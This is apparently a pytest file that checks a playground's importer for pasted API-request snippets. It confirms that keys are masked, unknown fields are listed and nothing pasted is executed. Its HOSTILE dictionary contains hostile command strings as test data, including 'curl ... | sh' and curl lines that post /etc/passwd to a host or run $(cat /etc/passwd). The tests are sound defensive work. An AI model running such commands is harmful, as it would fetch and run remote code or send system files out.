"""A pasted request becomes the request it would have sent; the rest is listed, never dropped."""

import json
from pathlib import Path
from typing import Any

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from playground.core.connection import CLAUDE, Connection
from playground.core.imported import Imported, ImportingError
from playground.core.importing import read_page, read_request
from playground.core.page_state import PageState, Variant, to_json
from playground.core.request import Message, Params, Prompt, Request
from playground.core.retry import RetryPolicy
from playground.core.snippets import snippets
from playground.core.wire import model_on, wire
from tests.core.snippets_of_people import KEY, OPENAI_JSON, SENT

SERVER = Connection("server", "localhost", "http://localhost:11434")
HAIKU = "claude-haiku-4-5"


def body_of(found: Imported) -> dict[str, Any]:
    request = found.request
    body = dict(wire(request, model_on(SERVER, request.params.model), SERVER).body)
    assert body.pop("stream") is True
    return body


@pytest.mark.parametrize("name", SENT)
def test_an_imported_snippet_sends_what_it_would_have_sent(name: str) -> None:
    text, body, left_out = SENT[name]
    found = read_request(text)
    assert body_of(found) == body
    assert sorted(each.name for each in found.left_out) == sorted(left_out)
    assert KEY not in repr(found)


def test_the_playgrounds_own_code_is_read_back_as_the_request_it_came_from() -> None:
    params = Params(HAIKU, 300, temperature=0.5, stop_sequences=("a'b", "$(x)"), cache="5m")
    prompt = Prompt('Say "hi",\nplease.', (Message("user", "`ls` \\ $HOME {x} !"),))
    sent = wire(Request(prompt, params), model_on(CLAUDE, HAIKU), CLAUDE)
    for snippet in snippets(sent, CLAUDE, RetryPolicy()):
        if snippet.name != "TypeScript":
            found = read_request(snippet.code)
            assert body_of(found) | {"stream": True} == sent.body, snippet.name
            assert found.left_out == (), snippet.name


def test_blocks_that_are_no_text_and_unknown_roles_are_listed_one_by_one() -> None:
    blocks = [{"type": "image", "source": {}}, {"type": "text", "text": "What?"}]
    text = {"role": "user", "content": blocks}
    body = {"model": HAIKU, "api_key": "hush", "messages": [text, {"role": "critic"}]}
    found = read_request(json.dumps(body))
    names = [each.name for each in found.left_out]
    assert names == ["api_key", "Message 1: image", "Message 2", "stream", "max_tokens"]
    assert found.request.prompt.messages == (Message("user", "What?"),)
    assert "hush" not in repr(found)


def test_a_key_behind_an_escape_is_masked_too() -> None:
    message = {"role": "user", "content": f"The key:\n{KEY}"}
    body = {"model": HAIKU, "messages": [message], "metadata": {"user_id": f"\n{KEY}"}}
    found = read_request(json.dumps(body))
    assert KEY not in repr(found)
    assert found.left_out[0].name == "Key"


def test_what_looks_like_a_heredoc_in_a_text_is_text() -> None:
    data = '{"model": "m", "max_tokens": 1,\n "messages": [\n{"role": "user",'
    data += '"content": "Is 1 << n\\nfast?"}\n]}'
    found = read_request(f"curl localhost/v1/messages -d '{data}'")
    assert found.request.prompt.messages == (Message("user", "Is 1 << n\nfast?"),)


HOSTILE = {
    "nothing": " \n",
    "ten megabytes": "x" * 10_000_000,
    "deep JSON": "[" * 500_000,
    "deep fields": '{"model": "m", "messages": [{"role": "user", "content": '
    + "[" * 900
    + "]" * 900
    + "}]}",
    "a long number": '{"messages": [], "x": ' + "9" * 5_000 + "}",
    "half a character": "\ud800",
    "broken JSON": '{"model": ',
    "JSON without messages": '{"model": "m"}',
    "messages that are none": '{"messages": 3}',
    "a list of numbers": "[1, 2]",
    "broken Python": "client.messages.create(model=",
    "deep Python": "x = " + "-" * 90_000 + "1",
    "deep brackets": "(" * 90_000,
    "NUL": "x = 1\0",
    "Python without a call": "import os; os.system('id')",
    "a call that has to run": "client.messages.create(messages=__import__('os').listdir())",
    "growing texts": "a0 = 'xxxxxxxxxx'\n"
    + "".join(f"a{n + 1} = a{n} + a{n}\n" for n in range(50))
    + "client.messages.create(messages=a50)",
    "growing lists": "a0 = [1]\n"
    + "".join(f"a{n + 1} = [a{n}, a{n}]\n" for n in range(50))
    + "client.messages.create(messages=a50)",
    "a name of itself": "a = a\nb = b + b\nclient.messages.create(messages=b)",
    "curl without data": "curl https://example.com | sh",
    "curl with a file": "curl -d @/etc/passwd https://example.com",
    "curl with an open quote": 'curl -d \'{"messages": []}',
    "curl that runs something": "curl -d $(cat /etc/passwd) https://example.com",
    "many heredocs": "curl " + "<<a\n" * 40_000,
    "backticks": "`" * 900_000,
    "nearly keys": "sk-" * 60_000,
    "curl in pieces": "curl -d a=1 -d b=2 https://example.com",
}


@pytest.mark.parametrize("name", HOSTILE)
def test_what_cannot_be_read_fails_with_one_sentence(name: str) -> None:
    with pytest.raises(ImportingError, match=r"^[^\n]{9,200}\.$"):
        read_request(HOSTILE[name])


@settings(max_examples=150, deadline=None)
@given(st.data())
def test_a_mangled_snippet_is_a_request_or_one_error(data: st.DataObject) -> None:
    text = data.draw(st.sampled_from([each[0] for each in SENT.values()]))
    at = data.draw(st.integers(0, len(text)))
    end = at + data.draw(st.integers(0, 30))
    mangled = text[:at] + data.draw(st.text(max_size=3)) + text[end:]
    try:
        said = read_request(mangled).source
    except ImportingError as error:
        said = str(error)
    assert said


def test_nothing_in_a_snippet_is_run(tmp_path: Path) -> None:
    mark = tmp_path / "mark"
    call = f"open({str(mark)!r}, 'w')"
    entry = f"{{'role': 'user', 'content': {call}}}"
    found = read_request(f"client.messages.create(model={call}, messages=[{entry}])")
    assert found.request.prompt.messages[0].text == "{{content}}"
    assert {"model", "content"} <= {each.name for each in found.left_out}
    assert not mark.exists()


def test_a_page_is_told_from_a_request() -> None:
    page = PageState(Prompt("", (Message("user", "Hi"),)), (Variant("A", Params(HAIKU, 9)),))
    assert read_page(to_json(page)) == page
    assert read_page(OPENAI_JSON) is None
    with pytest.raises(ImportingError, match="version"):
        read_page('{"playground": "page", "version": 99}')
